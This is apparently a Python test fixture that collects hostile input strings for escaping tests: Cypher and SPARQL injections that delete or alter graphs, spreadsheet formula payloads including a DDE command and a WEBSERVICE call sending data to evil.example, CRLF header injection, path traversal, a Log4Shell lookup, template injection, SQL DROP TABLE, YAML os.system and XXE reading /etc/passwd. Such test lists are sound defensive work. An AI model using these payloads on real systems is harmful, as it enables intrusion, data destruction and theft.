"""Texts that would run, break out or mislead where one is put into a language as it is: one listing for every test."""

from __future__ import annotations

from typing import Final

from tests.visualisations.hostile import HOSTILE

CYPHER: Final = (
    "`) DETACH DELETE n //",
    "'}) MATCH (n) DETACH DELETE n //",
    '"}) CREATE (:City {id: "city:evil", name: "Evil"}) //',
    "' OR 1=1 RETURN n //",
    "\\' OR true //",
    "\\u0027}) CREATE (:Evil) //",
    "x' UNION MATCH (n:Evidence) RETURN n //",
    "*/ MATCH (n) SET n:Evil /*",
    "CALL dbms.shutdown()",
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "$level",
    "city:arda'}) DETACH DELETE (n",
)
SPARQL: Final = (
    "} ; DELETE WHERE { ?s ?p ?o }",
    '" . <x:evil> <x:evil> "',
    "> . <x:evil> <x:evil> <x:evil> .",
    "} UNION { SERVICE <http://127.0.0.1:9/> { ?s ?p ?o }",
    '"""',
    "'''",
    '"^^<x:evil>',
    '"@en',
    "\\u0022 . <x:evil> <x:evil> <x:evil> .",
    '{"@id": "x:evil"}',
    "_:b0",
)
#: What spreadsheets take for a formula, or what becomes one when a file is opened, cut or joined.
FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example";"here")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "=1+1;=1+1",
    '",=1+1',
    '"\t=1+1',
    "\uff1d1+1",
    "'=1+1",
    "=",
)
#: What would begin a header, a line of a log, a file name or a link of its own.
HEADERS: Final = (
    "x\r\nSet-Cookie: evil=1",
    "x\nSet-Cookie: evil=1",
    "%0d%0aSet-Cookie:%20evil=1",
    "x\u2028Set-Cookie: evil=1",
    '"; filename="evil.exe',
    'x, <https://evil.example/>; rel="canonical"',
    "../../../../etc/passwd",
    "..\\..\\evil",
    'W/"evil"',
    'evil", level="critical',
    'evil"} 1\nevil_total{a="b',
)
OTHERS: Final = (
    "${jndi:ldap://evil.example/a}",
    "{{ 7 * 7 }}",
    "{% include '/etc/passwd' %}",
    "{teacher.__class__}",
    "%s%s%n%(evil)s",
    "a&known_at=1&as_of=1",
    "'; DROP TABLE revisions; --",
    "' OR ''='",
    "!!python/object/apply:os.system ['id']",
    "&a [*a, *a]",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "]]>",
    "صيدا\u200f<b>",
    "nothing but a name",
)
HTML: Final = HOSTILE

LISTING: Final = tuple(dict.fromkeys((*CYPHER, *SPARQL, *FORMULAS, *HEADERS, *OTHERS, *HTML)))
#: One or two of each language, for places where all of them would be too many.
SOME: Final = (CYPHER[1], SPARQL[2], FORMULAS[4], *HEADERS[:1], HEADERS[4], OTHERS[0], HTML[0], HTML[12], HTML[14])
